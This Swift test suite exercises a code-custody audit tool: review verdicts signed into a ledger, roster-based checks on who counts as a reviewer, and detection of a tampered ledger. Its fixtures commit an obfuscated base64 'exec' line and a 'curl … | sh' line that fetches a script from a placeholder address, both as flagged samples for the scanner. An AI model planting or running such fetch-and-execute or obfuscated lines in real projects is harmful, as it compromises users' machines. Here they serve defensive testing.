import CustodyLedger
import Foundation
import Testing

/// Review coverage end to end: `custody audit` on a built repository with a roster and a policy,
/// `custody review record`, then `custody audit` again shows which flagged commits have verdicts
/// that count, and the policy takes counted `cleared` verdicts as review evidence.
@Suite(.serialized) struct ReviewCoverageCLITests {
    /// git with the given author and no user or system configuration.
    static func git(_ repo: String, _ arguments: [String], author: (String, String) = ("Alice Adams", "alice@vendor.example")) throws -> String {
        let run = try LedgerCLITests.spawn(
            "/usr/bin/git", ["-C", repo] + arguments,
            environment: [
                "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "GIT_AUTHOR_NAME": author.0,
                "GIT_AUTHOR_EMAIL": author.1, "GIT_COMMITTER_NAME": author.0, "GIT_COMMITTER_EMAIL": author.1,
                "GIT_AUTHOR_DATE": "1767225600 +0000", "GIT_COMMITTER_DATE": "1767225600 +0000",
            ])
        #expect(run.status == 0, "git \(arguments): \(run.stderr)")
        return run.stdout.filter { !$0.isNewline }
    }

    struct Setup {
        let root: String
        let ws: String
        let repo: String
        let roster: String
        let policy: String
        /// Commit ids: `clean` (alice), `hidden` and `pipe` (mallory, with findings), `plain` (mallory, policy only).
        let commits: [String: String]
    }

    static let mallory = ("Mallory Marsh", "mallory@contractor.example")

    static func setUp() throws -> Setup {
        let root = TestPaths.scratch("coverage")
        let ws = root + "/ws"
        let repo = root + "/repo"
        for (name, prefix) in [
            ("ledger.example.invalid/coverage", ws + "/keys/ledger"), ("alice", root + "/alice"), ("bob", root + "/bob"),
            ("mallory", root + "/mallory"), ("alice", root + "/eve"),
        ] {
            let run = try LedgerCLITests.custody(["keygen", "--name", name, "--output", prefix])
            #expect(run.status == 0, "\(run.stderr)")
            #expect(run.stdout.contains("ssh-ed25519 "))
        }
        func pub(_ name: String) throws -> String {
            String(decoding: try #require(try FileIO.read(root + "/\(name).pub")), as: UTF8.self).filter { !$0.isNewline }
        }
        let roster = """
            people:
              - id: alice
                name: Alice Adams
                emails: [alice@vendor.example]
                keys: ["\(try pub("alice"))"]
                citizenship: [US]
                usPerson: true
                clearance: secret
                roles: [developer, reviewer]
              - id: bob
                name: Bob Brown
                emails: [bob@vendor.example]
                keys: ["\(try pub("bob"))"]
                citizenship: [US]
                usPerson: true
                clearance: secret
                roles: [reviewer]
              - id: mallory
                name: Mallory Marsh
                emails: [mallory@contractor.example]
                keys: ["\(try pub("mallory"))"]
                citizenship: [FR]
                usPerson: false
                roles: [developer, reviewer]

            """
        let policy = """
            rules:
              - id: escorted-review
                who: { usPerson: false }
                require: review
                reviewer: { usPerson: true, clearance: { atLeast: secret }, roles: { has: reviewer } }

            """
        try FileIO.writeAtomically(Array(roster.utf8), to: root + "/roster.yaml", sync: false)
        try FileIO.writeAtomically(Array(policy.utf8), to: root + "/policy.yaml", sync: false)
        try FileIO.makeDirectories(repo)
        _ = try git(repo, ["init", "-q", "-b", "main"])
        var commits: [String: String] = [:]
        func commit(_ key: String, _ path: String, _ content: String, author: (String, String)) throws {
            try FileIO.writeAtomically(Array(content.utf8), to: repo + "/" + path, sync: false)
            _ = try git(repo, ["add", path], author: author)
            _ = try git(repo, ["commit", "-q", "-m", "change \(key)"], author: author)
            commits[key] = try git(repo, ["rev-parse", "HEAD"])
        }
        try commit("clean", "README.md", "A small service.\n", author: ("Alice Adams", "alice@vendor.example"))
        try commit("hidden", "app.py", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n", author: mallory)
        try commit("pipe", "install.sh", "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x.sh | sh\n", author: mallory)
        try commit("plain", "notes.txt", "meeting notes\n", author: mallory)
        return Setup(root: root, ws: ws, repo: repo, roster: root + "/roster.yaml", policy: root + "/policy.yaml", commits: commits)
    }

    static func audit(_ s: Setup, format: String = "json") throws -> LedgerCLITests.Run {
        try LedgerCLITests.custody([
            "audit", s.repo, "--roster", s.roster, "--policy", s.policy, "--workspace", s.ws, "--format", format,
        ])
    }

    static func json(_ run: LedgerCLITests.Run) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(run.stdout.utf8)) as? [String: Any], "\(run.stderr)")
    }

    static func record(_ s: Setup, _ commit: String, as person: String, key: String, verdict: String = "cleared") throws -> LedgerCLITests.Run {
        try LedgerCLITests.custody([
            "review", "record", commit, "--verdict", verdict, "--note", "read the diff", "--as", person, "--key", s.root + "/\(key).key",
            "--workspace", s.ws,
        ])
    }

    /// Commits with findings or violations in a JSON report.
    static func flagged(_ report: [String: Any]) -> Set<String> {
        let findings = (report["findings"] as? [[String: Any]] ?? []).compactMap { $0["commit"] as? String }
        let violations = (report["violations"] as? [[String: Any]] ?? []).compactMap { $0["commit"] as? String }
        return Set(findings + violations)
    }

    static func violated(_ report: [String: Any]) -> Set<String> {
        Set((report["violations"] as? [[String: Any]] ?? []).filter { $0["ruleID"] as? String == "escorted-review" }.compactMap { $0["commit"] as? String })
    }

    @Test func auditThenRecordThenAuditShowsCoverageAndOnlyCountedVerdictsCount() throws {
        let s = try Self.setUp()
        defer { TestPaths.remove(s.root) }
        let c = s.commits

        // First audit: nothing reviewed; Mallory's three commits break the review rule.
        let first = try Self.audit(s)
        // Violations alone do not fail the run (no --fail-on): exit 0.
        #expect(first.status == 0, "\(first.status) \(first.stderr)")
        let report1 = try Self.json(first)
        let flagged = Self.flagged(report1)
        #expect(flagged.isSuperset(of: [c["hidden"]!, c["pipe"]!, c["plain"]!]))
        #expect(!flagged.contains(c["clean"]!))
        #expect(Self.violated(report1) == [c["hidden"]!, c["pipe"]!, c["plain"]!])
        let coverage1 = try #require(report1["reviewCoverage"] as? [String: Any])
        #expect(coverage1["flaggedCommits"] as? Int == flagged.count)
        #expect(coverage1["reviewedCommits"] as? Int == 0)
        #expect(Set(coverage1["unreviewed"] as? [String] ?? []) == flagged)

        // Verdicts: alice with her registered key (counts); "alice" with a key the roster does not
        // register (eve's); alice's name on a verdict signed with bob's key (written with the
        // library: the CLI refuses a key whose name is not --as); mallory on her own commit.
        #expect(try Self.record(s, c["hidden"]!, as: "alice", key: "alice").status == 0)
        #expect(try Self.record(s, c["pipe"]!, as: "alice", key: "eve").status == 0)
        #expect(try Self.record(s, c["plain"]!, as: "mallory", key: "mallory").status == 0)
        let ledgerKey = try NoteSigner(skey: String(decoding: try #require(try FileIO.read(s.ws + "/keys/ledger.key")).dropLast(), as: UTF8.self))
        let bobKey = try NoteSigner(skey: String(decoding: try #require(try FileIO.read(s.root + "/bob.key")).dropLast(), as: UTF8.self))
        let ledger = try Ledger.open(directory: s.ws + "/ledger", signer: ledgerKey, options: .init(durable: false))
        try ledger.append(
            try .reviewVerdict(try ReviewVerdict(commit: c["plain"]!, verdict: "cleared", note: "looks fine", reviewer: "alice"), signer: bobKey))
        try ledger.checkpoint()
        ledger.close()

        // The queue hides commits with a verdict.
        let queue = try LedgerCLITests.custody(["review", "queue", "--workspace", s.ws])
        #expect(queue.status == 0, "\(queue.stderr)")
        #expect(!queue.stdout.contains(String(c["hidden"]!.prefix(12))))
        #expect(queue.stdout.contains("with verdicts"))
        #expect(!queue.stdout.contains(String(c["pipe"]!.prefix(12))))
        // With the roster, only verdicts signed by a key registered to the reviewer hide a commit.
        let strict = try LedgerCLITests.custody(["review", "queue", "--workspace", s.ws, "--roster", s.roster])
        #expect(strict.status == 0, "\(strict.stderr)")
        #expect(strict.stdout.contains(String(c["pipe"]!.prefix(12))))
        #expect(!strict.stdout.contains(String(c["hidden"]!.prefix(12))))

        // Second audit: one commit reviewed, by alice, cleared; the others listed with the reason.
        let second = try Self.audit(s)
        let report2 = try Self.json(second)
        let coverage = try #require(report2["reviewCoverage"] as? [String: Any])
        #expect(coverage["flaggedCommits"] as? Int == flagged.count)
        #expect(coverage["reviewedCommits"] as? Int == 1)
        #expect(coverage["byVerdict"] as? [String: Int] == ["cleared": 1])
        #expect(coverage["byReviewer"] as? [String: Int] == ["alice": 1])
        #expect(Set(coverage["unreviewed"] as? [String] ?? []) == flagged.subtracting([c["hidden"]!]))
        let verdicts = try #require(coverage["verdicts"] as? [[String: Any]])
        #expect(verdicts.count == 4)
        func reason(_ commit: String, _ reviewer: String) -> String? {
            verdicts.first { $0["commit"] as? String == commit && $0["reviewer"] as? String == reviewer && $0["counted"] as? Bool == false }?["reason"]
                as? String
        }
        #expect(verdicts.contains { $0["commit"] as? String == c["hidden"]! && $0["counted"] as? Bool == true && $0["reviewerName"] as? String == "Alice Adams" })
        #expect(reason(c["pipe"]!, "alice") == "signed with a key the roster does not register to alice")
        #expect(reason(c["plain"]!, "alice") == "signed with a key the roster registers to bob, not to alice")
        #expect(reason(c["plain"]!, "mallory") == "the reviewer is the commit's author (a self-review does not count)")

        // The policy: alice's counted verdict is review evidence; the others are not.
        #expect(Self.violated(report2) == [c["pipe"]!, c["plain"]!])

        // Text, HTML and SARIF show it too.
        let text = try Self.audit(s, format: "text")
        #expect(text.stdout.contains("Review coverage (verdicts in the ledger "))
        #expect(text.stdout.contains("  1 of \(flagged.count) flagged commits have a counted verdict"))
        #expect(text.stdout.contains("  by reviewer  alice 1"))
        #expect(text.stdout.contains("\(c["pipe"]!.prefix(12)) cleared by alice (Alice Adams), ledger entry "))
        #expect(text.stdout.contains("NOT COUNTED, signed with a key the roster does not register to alice"))
        let html = try Self.audit(s, format: "html")
        #expect(html.stdout.contains("<h2>Review coverage</h2>"))
        #expect(html.stdout.contains("1 of \(flagged.count) flagged commits have a review verdict that counts"))
        let sarif = try Self.audit(s, format: "sarif")
        let log = try #require(try JSONSerialization.jsonObject(with: Data(sarif.stdout.utf8)) as? [String: Any])
        let run = try #require((log["runs"] as? [[String: Any]])?.first)
        let runCoverage = try #require((run["properties"] as? [String: Any])?["reviewCoverage"] as? [String: Any])
        #expect(runCoverage["reviewedCommits"] as? Int == 1 && runCoverage["verdictsNotCounted"] as? Int == 3)
        let results = run["results"] as? [[String: Any]] ?? []
        let onHidden = results.filter { ($0["properties"] as? [String: Any])?["commitSha"] as? String == c["hidden"]! }
        #expect(!onHidden.isEmpty)
        #expect(onHidden.allSatisfy { (($0["properties"] as? [String: Any])?["reviewVerdict"] as? String)?.hasPrefix("cleared by alice, ledger entry ") == true })
        #expect(!results.contains { ($0["properties"] as? [String: Any])?["commitSha"] as? String == c["pipe"]! && ($0["properties"] as? [String: Any])?["reviewVerdict"] != nil })

        // The ledger still verifies, with every audit run and verdict in it.
        let verify = try LedgerCLITests.custody(["ledger", "verify", "--workspace", s.ws, "--key", s.ws + "/keys/ledger.vkey"])
        #expect(verify.status == 0, "\(verify.stderr)")
    }

    @Test func anAuditWithoutALedgerHasNoCoverageAndATamperedLedgerIsReported() throws {
        let s = try Self.setUp()
        defer { TestPaths.remove(s.root) }
        // No ledger key in another workspace: no ledger, no coverage.
        let other = try LedgerCLITests.custody(["audit", s.repo, "--roster", s.roster, "--workspace", s.root + "/ws2", "--format", "json"])
        #expect(try Self.json(other)["reviewCoverage"] == nil)
        // A ledger whose checkpoint was changed: the audit says so, still writes its report (without
        // coverage), and then fails because the run cannot be recorded in that ledger.
        _ = try Self.audit(s)
        var checkpoint = try #require(try FileIO.read(s.ws + "/ledger/checkpoint"))
        checkpoint[checkpoint.count - 10] ^= 0x01
        try FileIO.writeAtomically(checkpoint, to: s.ws + "/ledger/checkpoint", sync: false)
        let after = try Self.audit(s)
        #expect(after.stderr.contains("custody: review verdicts not read"))
        #expect(try Self.json(after)["reviewCoverage"] == nil)
        #expect(after.stderr.split(separator: "\n").filter { $0.contains("review verdicts") }.count == 1)
        #expect(after.status == 3, "\(after.status) \(after.stderr)")
    }
}
